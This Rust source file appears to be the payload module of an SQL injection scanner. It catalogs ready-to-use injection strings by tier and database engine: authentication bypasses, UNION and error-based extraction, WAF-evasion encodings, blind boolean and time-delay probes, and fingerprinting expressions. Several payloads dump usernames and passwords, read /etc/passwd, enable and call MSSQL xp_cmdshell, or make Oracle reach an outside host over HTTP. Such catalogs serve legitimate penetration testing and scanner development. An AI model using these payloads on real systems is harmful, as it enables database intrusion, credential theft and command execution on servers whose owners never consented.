//! SQL injection payload catalog.

/// Backend engines the catalog can tailor payloads to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DatabaseType {
    MySql,
    MsSql,
    Oracle,
    PostgreSql,
    Sqlite,
    Generic,
}

impl DatabaseType {
    pub fn name(&self) -> &'static str {
        match self {
            DatabaseType::MySql => "MySQL",
            DatabaseType::MsSql => "MSSQL",
            DatabaseType::Oracle => "Oracle",
            DatabaseType::PostgreSql => "PostgreSQL",
            DatabaseType::Sqlite => "SQLite",
            DatabaseType::Generic => "Generic",
        }
    }
}

/// Catalog slice for one escalation tier.
pub fn tier(tier: super::Tier) -> Vec<&'static str> {
    match tier {
        super::Tier::Basic => basic(),
        super::Tier::Advanced => advanced(),
        super::Tier::Evasion => waf_bypass(),
    }
}

pub fn basic() -> Vec<&'static str> {
    vec![
        "' OR '1'='1",
        "' OR '1'='1' --",
        "' OR '1'='1' /*",
        "' OR '1'='1' #",
        "\" OR \"1\"=\"1",
        "\" OR \"1\"=\"1\" --",
        "OR 1=1",
        "OR 1=1 --",
        "' OR 'a'='a",
        "; OR '1'='1'",
        "admin' --",
        "admin' #",
        "' UNION SELECT 1,2,3 --",
        "' UNION SELECT 1,2,3,4 --",
        "' UNION SELECT 1,2,3,4,5 --",
    ]
}

/// Error-based extraction payloads, MySQL-leaning. Tried after the basic
/// sweep finds nothing.
pub fn advanced() -> Vec<&'static str> {
    vec![
        "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.TABLES GROUP BY x)a) --",
        "' AND (SELECT * FROM (SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.TABLES GROUP BY x)a) --",
        "' UNION ALL SELECT NULL,NULL,NULL,NULL,CONCAT(table_name,'::',column_name) FROM information_schema.columns WHERE table_schema=DATABASE() --",
        "' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT @@version), 0x7e)) --",
        "' AND UPDATEXML(1, CONCAT(0x7e, (SELECT @@version), 0x7e), 1) --",
        "' AND ROW(1,1)>(SELECT COUNT(*),CONCAT(CONCAT(table_name,'::',column_name),0x3a,FLOOR(RAND()*2)) FROM information_schema.columns GROUP BY a) --",
        "' AND (SELECT 6765 FROM(SELECT COUNT(*),CONCAT(0x7176707671,(SELECT (ELT(6765=6765,1))),0x7176766b71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a) --",
    ]
}

pub fn database_specific(db: DatabaseType) -> Vec<&'static str> {
    match db {
        DatabaseType::MySql => vec![
            "' OR 1=1 -- -",
            "' UNION SELECT @@version, NULL #",
            "' UNION SELECT table_name,column_name FROM information_schema.columns #",
            "' AND SLEEP(5) #",
            "' AND IF(1=1, SLEEP(5), 0) #",
            "' PROCEDURE ANALYSE() #",
            "' LOAD_FILE('/etc/passwd') #",
        ],
        DatabaseType::MsSql => vec![
            "' OR 1=1 --",
            "'; WAITFOR DELAY '0:0:5' --",
            "'; EXEC xp_cmdshell 'ping 127.0.0.1' --",
            "'; EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE; --",
            "'; SELECT @@version --",
            "'; SELECT name FROM master..sysdatabases --",
            "'; SELECT name FROM master..syslogins --",
        ],
        DatabaseType::Oracle => vec![
            "' OR 1=1 --",
            "' UNION SELECT banner FROM v$version --",
            "' UNION SELECT table_name FROM all_tables --",
            "' UNION SELECT column_name FROM all_tab_columns --",
            "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('RDS',5) --",
            "' AND UTL_INADDR.GET_HOST_ADDRESS('google.com') --",
            "' AND UTL_HTTP.REQUEST('http://google.com') --",
        ],
        DatabaseType::PostgreSql => vec![
            "' OR 1=1 --",
            "' UNION SELECT version() --",
            "' UNION SELECT table_name FROM information_schema.tables --",
            "' UNION SELECT column_name FROM information_schema.columns --",
            "' AND (SELECT pg_sleep(5)) --",
            "' AND (SELECT current_database()) --",
            "' AND (SELECT current_user) --",
        ],
        DatabaseType::Sqlite => vec![
            "' OR 1=1 --",
            "' UNION SELECT sqlite_version() --",
            "' UNION SELECT name FROM sqlite_master WHERE type='table' --",
            "' UNION SELECT sql FROM sqlite_master --",
            "' AND 1=randomblob(500000000) --",
            "' AND 1=like('ABCDEFG',upper(hex(randomblob(500000000)))) --",
            "' AND 1=unicode('ABCDEFG',upper(hex(randomblob(500000000)))) --",
        ],
        DatabaseType::Generic => basic(),
    }
}

pub fn data_extraction(db: DatabaseType) -> Vec<&'static str> {
    match db {
        DatabaseType::MySql => vec![
            "' UNION SELECT table_schema,table_name FROM information_schema.tables WHERE table_schema=DATABASE() --",
            "' UNION SELECT table_name,column_name FROM information_schema.columns WHERE table_schema=DATABASE() --",
            "' UNION SELECT CONCAT(table_schema,'.',table_name) FROM information_schema.tables --",
            "' UNION SELECT GROUP_CONCAT(column_name) FROM information_schema.columns WHERE table_name='users' --",
            "' UNION SELECT GROUP_CONCAT(username,':',password) FROM users --",
        ],
        DatabaseType::MsSql => vec![
            "' UNION SELECT name FROM sysobjects WHERE xtype='U' --",
            "' UNION SELECT name FROM syscolumns WHERE id=(SELECT id FROM sysobjects WHERE name='users') --",
            "' UNION SELECT CONCAT(name,':',master.dbo.fn_varbintohexstr(password)) FROM sysusers --",
            "' UNION SELECT DB_NAME() --",
            "' UNION SELECT STRING_AGG(name, ',') FROM sys.tables --",
        ],
        _ => vec![
            "' UNION SELECT 1,2,3,4,5,6,7,8,9,10 --",
            "' UNION SELECT NULL,NULL,NULL,NULL,NULL --",
            "' ORDER BY 10 --",
            "' GROUP BY 1,2,3,4,5 --",
            "' UNION SELECT @@version --",
        ],
    }
}

/// Comment-splitting, inline-version and whitespace-substitution tricks for
/// getting UNION SELECT past naive filters.
pub fn waf_bypass() -> Vec<&'static str> {
    vec![
        "/*!50000 SELECT */ 1",
        "/*!50000 UNION */ /*!50000 SELECT */ 1",
        "/*!12345UNION SELECT*/0x31,0x32,0x33",
        "'+/*!50000%55nIoN*/+/*!50000%53eLeCt*/+1,2,3--+",
        "'%09UNION%09SELECT%091,2,3--",
        "'%0AUNION%0ASELECT%0A1,2,3--",
        "'%0CUNION%0CSELECT%0C1,2,3--",
        "'%0DUNION%0DSELECT%0D1,2,3--",
        "'%0AUNION%A0SELECT%A01,2,3--",
        "'%20UNION%20SELECT%20NULL,NULL,NULL--",
        "'%23%0AUNION%23%0ASELECT%23%0A1,2,3--",
        "'%23%0AUNION%23foo%0ASELECT%23%0A1,2,3--",
        "'%23xxx%0AUNION%23xxx%0ASELECT%23%0A1,2,3--",
        "'/**/UNION/**/SELECT/**/1,2,3--",
        "' UN/**/ION SEL/**/ECT 1,2,3--",
        "' UNI%00ON SEL%00ECT 1,2,3--",
        "' /*!50000UnION*/ /*!50000SeLeCt*/ 1,2,3--",
    ]
}

/// Boolean and time-conditioned probes for blind inference.
pub fn blind(db: DatabaseType) -> Vec<&'static str> {
    match db {
        DatabaseType::MySql => vec![
            "' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='a' --",
            "' AND ASCII(SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1))>90 --",
            "' AND (SELECT 1 FROM users WHERE username='admin' AND LENGTH(password)>5) --",
            "' AND IF((SELECT password FROM users WHERE username='admin' LIMIT 0,1)='admin', SLEEP(5), 0) --",
            "' AND (SELECT SLEEP(5) FROM users WHERE username='admin' AND SUBSTR(password,1,1)='a') --",
        ],
        DatabaseType::MsSql => vec![
            "' AND SUBSTRING((SELECT TOP 1 password FROM users WHERE username='admin'),1,1)='a' --",
            "' AND ASCII(SUBSTRING((SELECT TOP 1 password FROM users WHERE username='admin'),1,1))>90 --",
            "' AND (SELECT TOP 1 LEN(password) FROM users WHERE username='admin')>5 --",
            "' IF (SELECT password FROM users WHERE username='admin')='admin' WAITFOR DELAY '0:0:5' --",
            "' IF (ASCII(SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1))>90) WAITFOR DELAY '0:0:5' --",
        ],
        _ => vec![
            "' AND 1=1 --",
            "' AND 1=2 --",
            "' AND 1=1 AND 'a'='a",
            "' AND 1=2 AND 'a'='a",
            "' AND SUBSTR(@@version,1,1)='5' --",
            "' AND LENGTH(database())>5 --",
        ],
    }
}

/// Short-delay probes used for time-based blind detection. One payload per
/// engine so the responsible backend identifies itself by latency.
pub fn time_based() -> Vec<(&'static str, DatabaseType)> {
    vec![
        ("' AND (SELECT SLEEP(1)) = '0", DatabaseType::MySql),
        ("' AND WAITFOR DELAY '0:0:1' = '0", DatabaseType::MsSql),
        ("' AND DBMS_LOCK.SLEEP(1) = '0", DatabaseType::Oracle),
        ("' AND pg_sleep(1) = '0", DatabaseType::PostgreSql),
    ]
}

/// Engine-identifying expressions: each only evaluates cleanly on its own
/// backend, so an error-free response fingerprints the engine.
pub fn fingerprint_probes() -> Vec<(&'static str, DatabaseType)> {
    vec![
        ("' AND (SELECT 1 FROM dual) = '1", DatabaseType::Oracle),
        ("' AND @@version = '1", DatabaseType::MySql),
        ("' AND @@SERVERNAME = '1", DatabaseType::MsSql),
        ("' AND version() = '1", DatabaseType::PostgreSql),
        ("' AND sqlite_version() = '1", DatabaseType::Sqlite),
    ]
}
